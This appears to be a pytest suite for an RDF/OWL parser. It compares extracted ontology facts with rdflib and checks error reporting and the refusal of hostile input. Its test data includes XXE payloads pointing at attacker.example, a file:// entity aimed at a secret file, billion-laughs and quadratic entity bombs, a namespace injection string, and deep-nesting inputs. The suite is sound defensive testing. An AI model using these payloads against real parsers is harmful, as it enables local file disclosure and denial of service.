"""ontosync.parsing.rdf: facts checked against an independent rdflib reference, error lines, and
hostile input (XXE, entity bombs, remote JSON-LD contexts, deep nesting, huge lines)."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import textwrap
import time
from collections import Counter
from pathlib import Path

import pytest
import rdflib
from rdflib import OWL, RDF, RDFS, XSD, Literal, URIRef

from ontosync.parsing import ParseOptions
from ontosync.parsing import rdf as rdfmod
from ontosync.parsing.facts import FileFacts, ParseError
from ontosync.parsing.rdf import parse_rdf

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = Path(__file__).resolve().parent / "fixtures" / "rdf"
CORPORA = Path(__file__).resolve().parents[2] / "shared" / "corpora"
ONTOLOGIES = CORPORA / "ontologies"

RDFLIB_FORMATS = {"turtle": "turtle", "rdfxml": "xml", "ntriples": "nt", "jsonld": "json-ld"}
RDF_NS = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
XML_HEAD = (
    '<?xml version="1.0"?>\n{doctype}\n'
    f'<rdf:RDF xmlns:rdf="{RDF_NS}" xmlns:owl="http://www.w3.org/2002/07/owl#"\n'
    '     xmlns:rdfs="http://www.w3.org/2000/01/rdf-schema#">\n'
)


def parse(data: bytes | str, fmt: str, **options) -> FileFacts:
    if isinstance(data, str):
        data = data.encode("utf-8")
    return parse_rdf(f"test.{fmt}", data, fmt, ParseOptions(**options))


def xml_doc(doctype: str, body: str) -> bytes:
    return (XML_HEAD.format(doctype=doctype) + body + "\n</rdf:RDF>\n").encode()


# --------------------------------------------------------------------------------------------------
# The independent reference: rdflib graph iteration, written from the rules in rdf.py's docstrings.

OBJECT_ONLY = {OWL.TransitiveProperty, OWL.SymmetricProperty, OWL.AsymmetricProperty,
               OWL.ReflexiveProperty, OWL.IrreflexiveProperty, OWL.InverseFunctionalProperty}
DATATYPES = {RDFS.Literal, RDF.PlainLiteral, RDF.langString, RDF.XMLLiteral, RDF.HTML, RDF.JSON,
             OWL.real, OWL.rational}


def reference(graph: rdflib.Graph) -> dict:
    """What parse_rdf must find, computed with rdflib."""
    classes = {s for t in (OWL.Class, RDFS.Class) for s in graph.subjects(RDF.type, t) if isinstance(s, URIRef)}
    labelled = {c for c in classes if any(isinstance(o, Literal) for o in graph.objects(c, RDFS.label))}
    edges = {(str(s), str(o)) for s, o in graph.subject_objects(RDFS.subClassOf)
             if isinstance(s, URIRef) and isinstance(o, URIRef)}
    declared_datatypes = set(graph.subjects(RDF.type, RDFS.Datatype))
    properties: dict[str, str] = {}
    for subject in {s for s in graph.subjects(RDF.type, None) if isinstance(s, URIRef)}:
        types = set(graph.objects(subject, RDF.type))
        if OWL.ObjectProperty in types:
            properties[str(subject)] = "ObjectProperty"
        elif OWL.DatatypeProperty in types:
            properties[str(subject)] = "DataProperty"
        elif OWL.AnnotationProperty in types:
            properties[str(subject)] = "AnnotationProperty"
        elif types & OBJECT_ONLY:
            properties[str(subject)] = "ObjectProperty"
        elif RDF.Property in types or OWL.FunctionalProperty in types:
            ranges = [r for r in graph.objects(subject, RDFS.range) if isinstance(r, URIRef)]
            is_data = bool(ranges) and all(
                str(r).startswith(str(XSD)) or r in DATATYPES or r in declared_datatypes for r in ranges)
            properties[str(subject)] = "DataProperty" if is_data else "ObjectProperty"
    ontologies = [s for s in graph.subjects(RDF.type, OWL.Ontology) if isinstance(s, URIRef)]
    return {
        "classes": {str(c) for c in classes},
        "labelled": {str(c) for c in labelled},
        "edges": edges,
        "properties": properties,
        "ontology_id": str(ontologies[0]) if len(ontologies) == 1 else None,
    }


def observed(facts: FileFacts) -> dict:
    return {
        "classes": {c.iri for c in facts.classes},
        "labelled": {c.iri for c in facts.classes if c.label is not None},
        "edges": {(e.child, e.parent) for e in facts.edges},
        "properties": {p.iri: p.property_type for p in facts.properties},
        "ontology_id": facts.ontology_id,
    }


def summary(found: dict) -> dict:
    return {"classes": len(found["classes"]), "labelled": len(found["labelled"]), "edges": len(found["edges"]),
            "properties": dict(sorted(Counter(found["properties"].values()).items()))}


# --------------------------------------------------------------------------------------------------
# Fixtures of our own, every format

FIXTURE_FILES = [("small.ttl", "turtle"), ("small.owl", "rdfxml"), ("small.nt", "ntriples"),
                 ("small.jsonld", "jsonld")]


@pytest.mark.parametrize(("name", "fmt"), FIXTURE_FILES)
def test_fixture_matches_rdflib(name: str, fmt: str) -> None:
    data = (FIXTURES / name).read_bytes()
    graph = rdflib.Graph().parse(data=data, format=RDFLIB_FORMATS[fmt])
    assert observed(parse(data, fmt)) == reference(graph)


def test_turtle_fixture_facts() -> None:
    facts = parse((FIXTURES / "small.ttl").read_bytes(), "turtle")
    zoo = "http://example.org/zoo#"
    classes = {c.iri.removeprefix(zoo): c for c in facts.classes}
    assert sorted(classes) == ["Animal", "Cat", "Dog", "Hair", "Leg", "Mammal", "Pet", "Puppy"]  # no bnode
    assert classes["Animal"].label == "Animal"  # no language tag beats @en and @de
    assert classes["Mammal"].label == "mammal"  # @en beats @en-GB and @de
    assert classes["Dog"].label == "chien"  # two @fr: the smallest value
    assert classes["Animal"].comment == "A living thing that moves."
    assert classes["Mammal"].comment == "An animal with hair."  # IAO_0000115 before skos:definition
    assert classes["Dog"].comment == "A domestic canine."  # skos:definition
    assert facts.ontology_id == "http://example.org/zoo"
    assert ("http://example.org/zoo#Cat", "http://example.org/other#Pet") in {(e.child, e.parent) for e in facts.edges}
    assert all(e.parent_ref is None for e in facts.edges)

    def z(local: str) -> str:
        return f"<{zoo}{local}>"

    axioms = {(a.axiom_type, a.subject.removeprefix(zoo), a.object) for a in facts.axioms}
    xsd = "http://www.w3.org/2001/XMLSchema#"
    expected = {
        ("SubClassOf", "Mammal", f"ObjectSomeValuesFrom({z('hasPart')} {z('Hair')})"),
        ("SubClassOf", "Dog", f"ObjectAllValuesFrom({z('hasPart')} ObjectUnionOf({z('Hair')} {z('Leg')}))"),
        ("SubClassOf", "Dog", f"ObjectExactCardinality(4 {z('hasPart')} {z('Leg')})"),
        ("SubClassOf", "Dog", f"DataSomeValuesFrom({z('hasName')} <{xsd}string>)"),
        ("SubClassOf", "Dog", f"DataMaxCardinality(1 {z('weight')})"),
        ("SubClassOf", "Dog", f"ObjectHasValue(ObjectInverseOf({z('owns')}) {z('alice')})"),
        ("SubClassOf", "Puppy", f"DataHasValue({z('colour')} \"brown\"@en)"),
        ("SubClassOf", "Puppy", f"ObjectMinCardinality(1 {z('hasPart')})"),
        ("SubClassOf", "Puppy", f"DataSomeValuesFrom({z('age')} DatatypeRestriction(<{xsd}integer> "
                                f"<{xsd}maxExclusive> \"2\"^^<{xsd}integer>))"),
        ("EquivalentClasses", "Pet", f"ObjectIntersectionOf({z('Animal')} ObjectHasSelf({z('owns')}) "
                                     f"ObjectComplementOf({z('Cat')}))"),
        ("EquivalentClasses", "Puppy", zoo + "YoungDog"),
        ("DisjointClasses", "Dog", zoo + "Cat"),
        ("DisjointClasses", "Animal", f"DisjointClasses({z('Animal')} {z('Hair')} {z('Leg')})"),
    }
    assert axioms == expected
    assert facts.axioms == sorted(facts.axioms, key=lambda a: (a.axiom_type, a.subject, a.object))

    props = {p.iri.removeprefix(zoo): p for p in facts.properties}
    assert props["hasPart"].property_type == "ObjectProperty"
    assert props["hasPart"].label == "has part"
    assert props["hasPart"].domain == zoo + "Animal"
    assert props["hasPart"].range == f"ObjectIntersectionOf({z('Animal')} {z('Hair')})"  # two ranges
    assert props["owns"].domain == f"ObjectUnionOf({z('Animal')} {z('Pet')})"
    assert props["hasName"].property_type == "DataProperty"
    assert props["hasName"].range == xsd + "string"
    assert props["weight"].property_type == "DataProperty"  # DatatypeProperty + FunctionalProperty
    assert props["note"].property_type == "AnnotationProperty"
    assert props["note"].range == "http://www.w3.org/2000/01/rdf-schema#Literal"  # smallest IRI
    assert props["punned"].property_type == "ObjectProperty"
    assert props["sibling"].property_type == "ObjectProperty"  # implied by owl:SymmetricProperty
    assert props["nickname"].property_type == "DataProperty"  # rdf:Property with a datatype range
    assert props["friend"].property_type == "ObjectProperty"  # rdf:Property with a class range
    kinds = Counter(w.kind for w in facts.warnings)
    assert kinds == {"property-type-conflict": 1, "unsupported-expression": 1}


def test_rdfxml_fixture_with_internal_entities() -> None:
    facts = parse((FIXTURES / "small.owl").read_bytes(), "rdfxml")
    obo = "http://purl.obolibrary.org/obo/"
    assert facts.ontology_id == obo + "tiny.owl"
    assert [c.iri for c in facts.classes] == [obo + "TINY_0000001", obo + "TINY_0000002", obo + "TINY_0000003"]
    assert facts.classes[0].comment == "A part of an organism."  # definition when there is no comment
    assert facts.classes[1].comment == "Comment beats definition."
    assert ("SubClassOf", obo + "TINY_0000002",
            f"DataSomeValuesFrom(<{obo}TINY_1000001> <http://www.w3.org/2001/XMLSchema#decimal>)") in {
        (a.axiom_type, a.subject, a.object) for a in facts.axioms}


def test_output_is_deterministic_across_processes() -> None:
    """Blank node ids (random in RDF/XML) and hash seeds must not show in the facts."""
    code = textwrap.dedent("""
        import sys
        from pathlib import Path
        from ontosync.parsing import ParseOptions
        from ontosync.parsing.rdf import parse_rdf
        for name, fmt in [("small.ttl", "turtle"), ("small.owl", "rdfxml"), ("small.jsonld", "jsonld")]:
            print(repr(parse_rdf(name, (Path(sys.argv[1]) / name).read_bytes(), fmt, ParseOptions())))
    """)
    outputs = set()
    for seed in ("1", "2", "3"):
        run = subprocess.run([sys.executable, "-c", code, str(FIXTURES)], capture_output=True, text=True,
                             cwd=ROOT, env={"PYTHONHASHSEED": seed, "PATH": ""}, timeout=60, check=True)
        outputs.add(run.stdout)
    assert len(outputs) == 1


# --------------------------------------------------------------------------------------------------
# Errors and lines


@pytest.mark.parametrize(("name", "fmt", "line", "words"), [
    ("malformed.ttl", "turtle", 8, "dot is expected"),  # the missing '.' is noticed at the next subject
    ("malformed.owl", "rdfxml", 9, "</rdfs:comment>"),
    ("malformed.nt", "ntriples", 3, "object of a triple"),
    ("malformed.jsonld", "jsonld", 4, "Expecting value"),
    ("fence-bad.ttl", "turtle", 6, "dot is expected"),  # prefixes were injected: lines unchanged
])
def test_syntax_error_names_the_line(name: str, fmt: str, line: int, words: str) -> None:
    with pytest.raises(ParseError) as err:
        parse((FIXTURES / name).read_bytes(), fmt)
    assert err.value.line == line
    assert words in err.value.message
    assert err.value.message.split(" syntax error: ")[0] in {"Turtle", "RDF/XML", "N-Triples", "JSON-LD"}


def test_empty_files() -> None:
    for fmt in ("turtle", "ntriples"):
        facts = parse(b"", fmt)
        assert (facts.classes, facts.edges, facts.skipped) == ([], [], None)
    assert parse(b"# only a comment\n\n", "turtle").classes == []
    for data in (b"", b"  \n\n", b'<?xml version="1.0"?>\n<!-- nothing -->\n'):
        with pytest.raises(ParseError) as err:
            parse(data, "rdfxml")
        assert err.value.line is not None
    with pytest.raises(ParseError) as err:
        parse(b"", "rdfxml")
    assert err.value.line == 1
    with pytest.raises(ParseError) as err:
        parse(b"", "jsonld")
    assert err.value.line == 1


def test_relative_iri_without_base_is_an_error() -> None:
    with pytest.raises(ParseError) as err:
        parse(b"@prefix owl: <http://www.w3.org/2002/07/owl#> .\n<A> a owl:Class .\n", "turtle")
    assert err.value.line == 2
    assert "base" in err.value.message


def test_plain_xml_is_skipped_not_read_as_rdf() -> None:
    facts = parse(b'<project xmlns="http://maven.apache.org/POM/4.0.0"><name>x</name></project>', "rdfxml")
    assert facts.skipped and not facts.classes


def test_bom_and_other_encodings() -> None:
    ttl = "@prefix owl: <http://www.w3.org/2002/07/owl#> .\n<http://e/Á> a owl:Class .\n"
    assert [c.iri for c in parse(b"\xef\xbb\xbf" + ttl.encode(), "turtle").classes] == ["http://e/Á"]
    body = '<owl:Class rdf:about="http://e/A"><rdfs:label>Ärger</rdfs:label></owl:Class>'
    for encoding in ("utf-16", "utf-16-le", "iso-8859-1"):
        text = xml_doc("", body).decode().replace('version="1.0"', f'version="1.0" encoding="{encoding}"')
        facts = parse(text.encode(encoding), "rdfxml")
        assert [(c.iri, c.label) for c in facts.classes] == [("http://e/A", "Ärger")], encoding
    mislabelled = xml_doc("", body).replace(b'version="1.0"', b'version="1.0" encoding="UTF-16"')
    assert [c.label for c in parse(mislabelled, "rdfxml").classes] == ["Ärger"]


# --------------------------------------------------------------------------------------------------
# Turtle without @prefix lines (Logseq fences)

MV = "http://narrativegoldmine.com/metaverse#"


def test_fence_without_prefixes_uses_namespace_table() -> None:
    facts = parse((FIXTURES / "fence.ttl").read_bytes(), "turtle")
    assert [(e.child, e.parent) for e in facts.edges] == [(MV + "Avatar", MV + "VirtualAgent")]
    assert [c.label for c in facts.classes] == ["Avatar", None]


def test_declared_prefix_wins_over_table() -> None:
    doc = "@prefix mv: <http://other.example/> .\nmv:A a owl:Class .\n"
    assert [c.iri for c in parse(doc, "turtle").classes] == ["http://other.example/A"]
    sparql_style = "PREFIX mv: <http://other.example/>\nmv:A a owl:Class .\n"
    assert [c.iri for c in parse(sparql_style, "turtle").classes] == ["http://other.example/A"]
    other_case = "@prefix MV: <http://other.example/> .\nmv:A a owl:Class . MV:B a owl:Class .\n"
    assert [c.iri for c in parse(other_case, "turtle").classes] == [MV + "A", "http://other.example/B"]
    custom = parse("x:A a owl:Class .\n", "turtle", namespaces={"x": "http://x.example/", "owl": rdfmod.OWL})
    assert [c.iri for c in custom.classes] == ["http://x.example/A"]


def test_error_on_line_one_reports_the_users_column() -> None:
    with pytest.raises(ParseError) as err:
        parse("mv:A a owl:Class ) .\n", "turtle")
    assert err.value.line == 1
    assert "(column 18)" in err.value.message


def test_unknown_prefix_is_an_error_with_its_line() -> None:
    with pytest.raises(ParseError) as err:
        parse("mv:A a owl:Class .\nnope:B a owl:Class .\n", "turtle")
    assert err.value.line == 2
    assert "nope" in err.value.message


def test_invalid_namespace_entries_are_not_injected() -> None:
    """A table IRI that would break out of `<...>` is left out, so the prefix stays undefined."""
    with pytest.raises(ParseError) as err:
        parse("mv:A a owl:Class .\n", "turtle",
              namespaces={"mv": "http://x/> . <http://evil/", "owl": rdfmod.OWL, "bad name": "http://y/"})
    assert "mv" in err.value.message


# --------------------------------------------------------------------------------------------------
# Hostile RDF/XML: refused before any parser sees it


@pytest.fixture
def no_parser(monkeypatch: pytest.MonkeyPatch) -> None:
    """Any call into pyoxigraph fails the test: refusals must come from the pre-scan."""

    def forbidden(*args, **kwargs):
        raise AssertionError("pyoxigraph.parse was called on a document that had to be refused")

    monkeypatch.setattr(rdfmod.ox, "parse", forbidden)


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def forbidden(*args, **kwargs):
        raise AssertionError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", forbidden)
    monkeypatch.setattr(socket, "create_connection", forbidden)
    monkeypatch.setattr(socket, "getaddrinfo", forbidden)


LABEL_OF = '<owl:Class rdf:about="http://e/A"><rdfs:label>{}</rdfs:label></owl:Class>'
LOL = "".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">\n' for i in range(1, 10))
HOSTILE_XML = {
    "external DTD (SYSTEM)": ('<!DOCTYPE rdf:RDF SYSTEM "http://attacker.example/evil.dtd">', "x", "external DTD"),
    "external DTD (PUBLIC)": ('<!DOCTYPE rdf:RDF PUBLIC "-//X//EN" "http://attacker.example/evil.dtd">', "x",
                              "external DTD"),
    "PUBLIC entity": ('<!DOCTYPE rdf:RDF [<!ENTITY e PUBLIC "-//X//EN" "http://attacker.example/e">]>', "&e;",
                      "external entity"),
    "parameter entity": ('<!DOCTYPE rdf:RDF [<!ENTITY % pe SYSTEM "http://attacker.example/pe.dtd"> %pe;]>',
                         "x", "parameter entity"),
    "parameter entity reference": ("<!DOCTYPE rdf:RDF [%pe;]>", "x", "parameter entity"),
    "billion laughs": ('<!DOCTYPE rdf:RDF [<!ENTITY lol0 "lol">\n' + LOL + "]>", "&lol9;", "other entities"),
    "quadratic blowup": ('<!DOCTYPE rdf:RDF [<!ENTITY a "' + "x" * 4000 + '">]>', "&a;" * 20000, "expand"),
    "entity with a character reference": ('<!DOCTYPE rdf:RDF [<!ENTITY a "&#60;">]>', "&a;", "other entities"),
    "DTD markup other than entities": ("<!DOCTYPE rdf:RDF [<!ELEMENT rdf:RDF ANY>]>", "x",
                                       "only internal entity declarations"),
    "redefined predefined entity": ('<!DOCTYPE rdf:RDF [<!ENTITY amp "&#38;#38;">]>', "x", "other entities"),
    "entity declared twice": ('<!DOCTYPE rdf:RDF [<!ENTITY a "1"><!ENTITY a "2">]>', "&a;", "twice"),
    # pyoxigraph reads entity declarations in these places too, so they are refused outright:
    "entity hidden in a DTD comment": ('<!DOCTYPE rdf:RDF [<!-- <!ENTITY a "http://evil/"> -->]>', "&a;",
                                       "DTD comment"),
    "lower-case doctype": ('<!doctype rdf:RDF [<!ENTITY a "http://evil/">]>', "&a;", "outside"),
    "second DOCTYPE": ('<!DOCTYPE rdf:RDF [<!ENTITY a "1">]>\n<!DOCTYPE rdf:RDF [<!ENTITY b "2">]>', "&a;",
                       "outside"),
}


@pytest.mark.usefixtures("no_parser", "no_network")
@pytest.mark.parametrize("case", sorted(HOSTILE_XML))
def test_hostile_rdfxml_is_refused_before_parsing(case: str) -> None:
    doctype, label, words = HOSTILE_XML[case]
    started = time.perf_counter()
    with pytest.raises(ParseError) as err:
        parse(xml_doc(doctype, LABEL_OF.format(label)), "rdfxml")
    assert time.perf_counter() - started < 1.0
    assert words in err.value.message
    assert err.value.message.startswith("RDF/XML refused")
    assert err.value.line is not None


@pytest.mark.usefixtures("no_parser", "no_network")
def test_xxe_never_reads_the_secret(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7f3a9")
    doc = xml_doc(f'<!DOCTYPE rdf:RDF [\n<!ENTITY xxe SYSTEM "file://{secret}">\n]>', LABEL_OF.format("&xxe;"))
    with pytest.raises(ParseError) as err:
        parse(doc, "rdfxml")
    assert "external entity" in err.value.message
    assert err.value.line == 3
    assert "TOP-SECRET" not in repr(err.value) and "TOP-SECRET" not in err.value.message


def test_xxe_refused_without_the_parser_fixture_too(tmp_path: Path) -> None:
    """Same document, real parser available: still refused, secret absent from error and facts."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-7f3a9")
    for decl in (f'<!ENTITY xxe SYSTEM "file://{secret}">', f'<!ENTITY xxe SYSTEM "{secret}">'):
        with pytest.raises(ParseError) as err:
            parse(xml_doc(f"<!DOCTYPE rdf:RDF [{decl}]>", LABEL_OF.format("&xxe;")), "rdfxml")
        assert "TOP-SECRET" not in err.value.message


def test_entity_declaration_outside_the_prolog_is_refused() -> None:
    body = '<!DOCTYPE rdf:RDF [<!ENTITY a "http://evil/">]>' + LABEL_OF.format("&a;")
    with pytest.raises(ParseError) as err:
        parse(xml_doc("", body), "rdfxml")
    assert "outside" in err.value.message


def test_internal_entities_within_limits_are_expanded() -> None:
    doctype = '<!DOCTYPE rdf:RDF [\n  <!ENTITY obo "http://purl.obolibrary.org/obo/">\n  <!ENTITY t "Thing">\n]>'
    body = '<owl:Class rdf:about="&obo;X_1"><rdfs:label>a &t;</rdfs:label></owl:Class>'
    facts = parse(xml_doc(doctype, body), "rdfxml")
    assert [(c.iri, c.label) for c in facts.classes] == [("http://purl.obolibrary.org/obo/X_1", "a Thing")]


def test_deeply_nested_rdfxml_is_refused_fast() -> None:
    depth = 100_000
    body = ('<rdf:Description rdf:about="http://e/a">' + "<rdfs:seeAlso><rdf:Description>" * depth
            + "</rdf:Description></rdfs:seeAlso>" * depth + "</rdf:Description>")
    started = time.perf_counter()
    with pytest.raises(ParseError) as err:
        parse(xml_doc("", body), "rdfxml")
    assert time.perf_counter() - started < 5.0
    assert "nested" in err.value.message
    assert err.value.line == 5  # the single body line


# --------------------------------------------------------------------------------------------------
# JSON-LD contexts: local copies only

CONTEXT_URL = "https://example.org/zoo-context.jsonld"
CONTEXT = json.dumps({"@context": {"ex": "http://example.org/zoo#", "owl": "http://www.w3.org/2002/07/owl#",
                                   "label": "http://www.w3.org/2000/01/rdf-schema#label"}})


@pytest.mark.usefixtures("no_network")
@pytest.mark.parametrize("context", [
    CONTEXT_URL,
    [CONTEXT_URL, {"x": "http://x/"}],
    {"@import": CONTEXT_URL},
    {"ex": "http://example.org/zoo#", "label": {"@id": "ex:label", "@context": CONTEXT_URL}},
])
def test_remote_jsonld_context_is_refused(context) -> None:
    doc = json.dumps({"@context": context, "@id": "http://example.org/zoo#A", "@type": rdfmod.OWL_CLASS})
    started = time.perf_counter()
    with pytest.raises(ParseError) as err:
        parse(doc, "jsonld")
    assert time.perf_counter() - started < 1.0
    assert CONTEXT_URL in err.value.message
    assert "not fetched" in err.value.message and ".ontosync.yml" in err.value.message


@pytest.mark.usefixtures("no_network")
def test_mapped_jsonld_context_is_used() -> None:
    doc = json.dumps({"@context": CONTEXT_URL, "@graph": [
        {"@id": "ex:A", "@type": "owl:Class", "label": "A"},
        {"@id": "ex:B", "@type": "owl:Class", "@context": [CONTEXT_URL], "label": "B"}]})
    facts = parse(doc, "jsonld", jsonld_contexts={CONTEXT_URL: CONTEXT})
    assert [(c.iri, c.label) for c in facts.classes] == [
        ("http://example.org/zoo#A", "A"), ("http://example.org/zoo#B", "B")]


def test_self_including_jsonld_context_stops() -> None:
    url = "https://example.org/loop.jsonld"
    loop = json.dumps({"@context": [url, {"x": "http://x/"}]})
    with pytest.raises(ParseError) as err:
        parse(json.dumps({"@context": url, "@id": "http://e/a"}), "jsonld", jsonld_contexts={url: loop})
    assert "substitutions" in err.value.message


def test_deeply_nested_jsonld_is_an_error() -> None:
    depth = 100_000
    with pytest.raises(ParseError):
        parse(b'{"@id": "http://e/a", "http://e/p": ' + b"[" * depth + b"1" + b"]" * depth + b"}", "jsonld")


# --------------------------------------------------------------------------------------------------
# Deep nesting and huge lines: no crash, bounded time

DEEP_CASES = {
    "collections": b"<http://e/a> <http://e/b> " + b"(" * 100_000 + b")" * 100_000 + b" .",
    "blank nodes": b"<http://e/a> <http://e/b> " + b"[ <http://e/p> " * 100_000 + b"<http://e/c>"
                   + b" ]" * 100_000 + b" .",
    "unclosed": b"<http://e/a> <http://e/b> " + b"(" * 100_000,
    "class expression": (b"@prefix owl: <http://www.w3.org/2002/07/owl#> .\n"
                         b"@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n"
                         b"<http://e/A> a owl:Class ; rdfs:subClassOf " + b"[ owl:complementOf " * 100_000
                         + b"<http://e/B>" + b" ]" * 100_000 + b" ."),
}


@pytest.mark.parametrize("case", sorted(DEEP_CASES))
def test_deep_turtle_nesting_does_not_crash(case: str, tmp_path: Path) -> None:
    """Run in a child process: a stack overflow would kill it, not the test run."""
    source = tmp_path / "deep.ttl"
    source.write_bytes(DEEP_CASES[case])
    code = textwrap.dedent("""
        import sys
        from ontosync.parsing import ParseOptions
        from ontosync.parsing.facts import ParseError
        from ontosync.parsing.rdf import parse_rdf
        try:
            facts = parse_rdf("deep.ttl", open(sys.argv[1], "rb").read(), "turtle", ParseOptions())
            print("ok", len(facts.axioms), [w.kind for w in facts.warnings])
        except ParseError as exc:
            print("error", exc.line, exc.message[:200])
    """)
    run = subprocess.run([sys.executable, "-c", code, str(source)], capture_output=True, text=True, cwd=ROOT,
                         timeout=120)
    assert run.returncode == 0, run.stderr[-2000:]
    outcome = run.stdout.split()[0]
    assert outcome in {"ok", "error"}
    if case == "class expression":
        assert run.stdout.startswith("ok 0") and "unsupported-expression" in run.stdout
    if case == "unclosed":
        assert outcome == "error"


def test_shared_blank_nodes_cannot_blow_up_the_output() -> None:
    """A DAG of blank nodes renders exponentially long text: capped per expression."""
    lines = ["@prefix owl: <http://www.w3.org/2002/07/owl#> .",
             "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> ."]
    lines.append("_:n0 owl:intersectionOf ( <http://e/X> <http://e/Y> ) .")
    lines += [f"_:n{i} owl:intersectionOf ( _:n{i - 1} _:n{i - 1} ) ." for i in range(1, 40)]
    lines.append("<http://e/A> a owl:Class ; rdfs:subClassOf _:n39 .")
    facts = parse("\n".join(lines), "turtle")
    assert facts.axioms == []
    assert any("longer than" in w.message for w in facts.warnings)


def test_ten_megabyte_single_line() -> None:
    big = "x" * 10_000_000
    facts = parse(f'@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .\n'
                  f'<http://e/A> a <http://www.w3.org/2002/07/owl#Class> ; rdfs:label "{big}" .', "turtle")
    assert len(facts.classes[0].label) == 10_000_000
    for fmt, data in (("turtle", b"<http://e/a> <http://e/b> " + b"x" * 10_000_000),
                      ("ntriples", b"<http://e/a> <http://e/b> " + b"x" * 10_000_000),
                      ("jsonld", b'{"@id": "http://e/a", "http://e/p": "' + b"x" * 10_000_000),
                      ("rdfxml", xml_doc("", '<owl:Class rdf:about="http://e/A"/>' * 300_000
                                         + "<owl:Class>" + "x" * 1_000_000).replace(b"\n", b" "))):
        started = time.process_time()  # CPU, not wall time: a loaded machine's waits are not the parser's
        with pytest.raises(ParseError) as err:
            parse(data, fmt)
        assert time.process_time() - started < 10.0, fmt
        assert len(err.value.message) <= rdfmod.MAX_MESSAGE, fmt
        assert err.value.line == 1, fmt


# --------------------------------------------------------------------------------------------------
# The shared corpus: counts against rdflib, and speed

CORPUS = [("bfo-core.ttl", "turtle"), ("ro.owl", "rdfxml"), ("pato-base.owl", "rdfxml")]


def corpus_reference(rdflib_graph, name: str, fmt: str) -> dict:
    """rdflib's reading of the file (parsed once per run for test_rdf, test_sync and test_oak:
    conftest's `rdflib_graph`)."""
    return reference(rdflib_graph(ONTOLOGIES / name, RDFLIB_FORMATS[fmt]))


@pytest.mark.corpus
@pytest.mark.skipif(not ONTOLOGIES.is_dir(), reason=f"corpus not found at {ONTOLOGIES}")
@pytest.mark.parametrize(("name", "fmt"), CORPUS)
def test_corpus_matches_rdflib(name: str, fmt: str, rdflib_graph) -> None:
    facts = parse((ONTOLOGIES / name).read_bytes(), fmt)
    expected = corpus_reference(rdflib_graph, name, fmt)
    found = observed(facts)
    print(f"\n{name}: ontosync {summary(found)} / rdflib {summary(expected)}")
    assert summary(found) == summary(expected)
    assert found == expected
    assert not [w for w in facts.warnings if w.kind == "unsupported-expression"]
